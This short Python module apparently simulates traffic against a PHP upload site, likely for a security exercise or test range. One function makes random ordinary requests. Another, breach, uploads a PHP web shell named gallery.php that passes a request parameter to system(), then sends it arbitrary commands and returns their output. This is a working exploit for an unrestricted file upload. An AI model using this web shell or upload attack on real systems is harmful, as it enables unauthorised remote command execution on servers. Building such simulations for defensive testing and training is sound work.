"""Clients of php: they look, upload texts and pictures, and fetch them again."""

from outside import get, post, quote


def visit(host, rng):
    what = rng.choices(["look", "upload", "fetch", "archive", "info"], [50, 20, 20, 6, 1])[0]
    if what == "look":
        get(host, 80, "/index.php")
    elif what == "upload":
        name = f"note-{rng.randint(1, 500)}.{rng.choice(['txt', 'txt', 'jpg'])}"
        post(host, 80, "/upload.php?name=" + name, b"x" * rng.randint(10, 4000))
    elif what == "fetch":
        get(host, 80, f"/uploads/note-{rng.randint(1, 500)}.txt")
    elif what == "archive":
        get(host, 80, "/archive.php?kind=" + rng.choice(["txt", "jpg"]))
    else:
        get(host, 80, "/info.php")


def breach(host, command):
    """Uploads a page that runs what it is told, and tells it."""
    post(host, 80, "/upload.php?name=gallery.php", b"<?php system($_REQUEST['q'] . ' 2>&1');")
    return post(host, 80, "/uploads/gallery.php", b"q=" + quote(command, safe="").encode())
